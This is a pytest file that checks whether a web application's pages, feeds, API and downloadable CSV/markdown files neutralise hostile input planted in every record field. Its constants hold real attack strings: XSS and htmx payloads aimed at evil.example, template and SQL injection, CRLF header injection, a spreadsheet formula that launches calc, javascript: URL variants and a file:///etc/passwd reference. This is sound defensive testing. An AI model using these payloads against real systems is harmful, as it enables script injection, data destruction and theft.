"""Hostile words in every place of a record, on everything that can be read: they are words, and nothing else."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser

import httpx
import pytest
from lxml import etree

from onrecord.publish.cells import risky
from onrecord.web.guard import HEADERS
from tests.hostile.walk import Attacked, attacked
from tests.publish.seen_page import check
from tests.publish.small_record import plain
from tests.web.asking import HOST, ask

MARKUP = (
    " </p></title></textarea></style></script><script>alert(1)</script>\"'`><img src=x onerror=alert(2)>"
    "<svg onload=alert(3)><style><!--</style><math><mtext><table><mglyph><style><img src=x onerror=alert(4)>"
    '</style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert(5)>">'
    "' hx-get='//evil.example' hx-trigger='load' hx-on:load='alert(6)' data-hx-get='/sign-out' "
    '" onfocus=alert(7) autofocus style=background:url(//evil.example/x) x="]]>--!>'
    "&#60;script&#62;alert(8)&#60;/script&#62;"
    " {{ 1337*1337 }} {% raise %} ${1337*1337} <%= 1337*1337 %> #{1337*1337} @import '//evil.example/c.css';"
    ' </script><script type=application/ld+json>{"x":1}</script> [x](javascript:alert(9)) ![x](//evil.example/i.png)'
    " =cmd|'/c calc'!A1 \r\nLocation: //evil.example\r\n\r\nX-Injected: 1 ' OR 1=1; DROP TABLE articles;-- \x1b[2J"
)
SCHEMES = (
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:alert(1)//https://one.example/",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "//evil.example/",
    "\\\\evil.example\\",
    "https:/evil.example",
    "https:evil.example",
    "https:\\\\evil.example",
    "https://one.example/\r\nX-Injected: 1",
    'https://one.example/" onclick="alert(1)',
    "file:///etc/passwd",
    "blob:https://one.example/1",
    "view-source:https://one.example",
    "hTTps://[::1",
)
# What turns, hides or breaks text: direction, width, halves of characters, controls.
UNSEEN = "\u202e\u2066\u200f\u200b\u2060\ufeff\u00ad\x00\x08\x1b\x7f\x85\u2028\U000e0041"
ATTACKED = ("markup", "schemes", "unseen", "formula", "endless")
CANARY = str(1337 * 1337)
WORD = "x" * 30_000


def dressed(attack: str, said: str) -> str:
    """The words with an attack on them, so that their offsets, or where it stands before them their order, hold."""
    if attack == "schemes" and said.startswith("https://"):
        return SCHEMES[sum(map(ord, said)) % len(SCHEMES)]
    if attack == "formula":
        return f'=HYPERLINK("//evil.example") {said}'
    return said + {"markup": MARKUP, "schemes": MARKUP, "unseen": UNSEEN, "endless": WORD}[attack]


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    return attacked(tmp_path_factory.mktemp("plain") / "record.db", plain)


@pytest.fixture(scope="module", params=ATTACKED)
def desk(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    path = tmp_path_factory.mktemp(request.param) / "record.db"
    return attacked(path, lambda said: dressed(request.param, said))


class Shapes(HTMLParser):
    """Which tags have which attributes, and the values of those that htmx acts on."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: set[tuple[str, str]] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {(tag, name) for name, _ in attrs}
        for name, value in attrs:
            if name.startswith(("hx-", "data-hx-")):
                assert "evil" not in (value or ""), (name, value)
                assert not name.startswith(("hx-on", "data-hx-on"))


def answers(desk: Attacked, *beginnings: str) -> Iterator[tuple[str, httpx.Response]]:
    """Everything that can be read there, each with the headers that keep it harmless."""
    for address in desk.every(*beginnings):
        answer = ask(desk.app, address)
        assert answer.status_code in (200, 303, 308, 400, 404, 414), (address[:200], answer.text[:400])
        for name, value in HEADERS.items():
            assert value in answer.headers.get_list(name), (address[:200], name)
        assert "x-injected" not in answer.headers
        if answer.status_code in (303, 308):
            assert re.match(r"/(?![/\\])[!-~]*$", answer.headers["location"]), answer.headers["location"][:200]
        yield address, answer


def test_no_page_is_changed_by_the_words_on_it(desk: Attacked, clean: Attacked) -> None:
    known = {one for _, answer in answers(clean) for one in Shapes(answer.text).found if _is_page(answer)}
    assert len(known) > 100
    several = 0
    for address, answer in answers(desk):
        if not _is_page(answer):
            continue
        several += 1
        page = answer.text
        check(page)
        new = Shapes(page).found - known
        assert not new - {("input", "checked"), ("option", "selected"), ("td", "class")}, (address[:200], new)
        _only_our_scripts(page)
        assert CANARY not in page
        assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", page), address[:200]
        assert len(page) < 50 * len(WORD), (address[:200], len(page))
    assert several > 30


def _only_our_scripts(page: str) -> None:
    """Files of ours, and data that nothing runs and nothing in it ends."""
    found = re.findall(r"<script([^>]*)>(.*?)</script>", page, re.DOTALL | re.IGNORECASE)
    assert len(found) == len(re.findall("<script", page, re.IGNORECASE))
    for attributes, body in found:
        if attributes.strip() == 'type="application/ld+json"':
            assert not set("<>&'") & set(body)
            json.loads(body)
        else:
            assert re.fullmatch(r' src="/static/[\w./?=-]+" defer', attributes)
            assert not body


def _is_page(answer: httpx.Response) -> bool:
    return str(answer.headers.get("content-type", "")).startswith("text/html")


def test_feeds_stay_feeds(desk: Attacked) -> None:
    entries = 0
    for address, answer in answers(desk, "/feeds/"):
        if answer.status_code in (404, 414):
            continue
        assert answer.headers["content-type"] == "application/atom+xml; charset=utf-8"
        root = etree.fromstring(answer.content, etree.XMLParser(resolve_entities=False, no_network=True))
        assert b"<!" not in answer.content.replace(b"&lt;!", b"")
        for one in root.iter():
            name = etree.QName(one).localname
            assert name in TAGS, (address[:200], name)
            assert set(one.attrib) <= {"href", "rel", "type", "term"}
            if "href" in one.attrib:
                assert str(one.get("href")).startswith(f"http://{HOST}:8000/")
            entries += name == "entry"
    assert entries > 3


_TAGS = "feed id title updated author name link generator entry category content div p blockquote a em"
TAGS = frozenset(_TAGS.split())


def test_the_api_answers_in_json_and_nothing_else(desk: Attacked) -> None:
    for address, answer in answers(desk, "/api/"):
        if answer.status_code == 414:
            continue
        assert answer.headers["content-type"] in ("application/json", "application/problem+json"), address[:200]
        json.loads(answer.content)


def test_files_to_take_away_are_files(desk: Attacked) -> None:
    kinds = set()
    for address, answer in answers(desk, "/claims/{id}.", "/stories/{id}.", "/articles/{id}.", "/articles/{id}/bytes"):
        assert answer.status_code == 200
        kinds.add(answer.headers["content-type"])
        named = re.fullmatch(r'attachment; filename="[\w.-]+"', answer.headers["content-disposition"])
        assert named, address[:200]
        assert "html" not in answer.headers["content-type"]
        if "json" in answer.headers["content-type"]:
            json.loads(answer.content)
        if address.endswith(".csv"):
            _no_formulas(answer.content)
        if address.endswith(".markdown"):
            _plain_markdown(answer.text)
    assert len(kinds) >= 6


def _no_formulas(packed: bytes) -> None:
    csv.field_size_limit(20 * len(WORD))
    with zipfile.ZipFile(io.BytesIO(packed)) as held:
        for name in held.namelist():
            assert re.fullmatch(r"[\w.-]+", name)
            for row in csv.reader(io.StringIO(held.read(name).decode("utf-8-sig"), newline="")):
                for cell in row:
                    assert cell[:1] == "'" or not risky(cell) or _is_number(cell), cell[:80]


def _is_number(cell: str) -> bool:
    return bool(re.fullmatch(r"[-+]?\d+(\.\d+)?(e[-+]?\d+)?", cell))


def _plain_markdown(text: str) -> None:
    bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", text)  # escaped signs are text
    assert not re.search(r"<(?!https?://)", bare)
    assert "](javascript" not in bare
    assert "![" not in bare
    for address in re.findall(r"\]\(<([^>]*)>\)", bare):
        assert re.match(r"https?://(one\.example|two\.example|127\.0\.0\.1:8000)/", address, re.I), address[:100]


def test_the_record_is_whole_after_all_of_it(desk: Attacked) -> None:
    for _ in answers(desk, "/search", "/api/v1/search", "/api/v1/positions", "/log"):
        pass
    assert ask(desk.app, "/api/v1/counts").json()["articles"] == 2
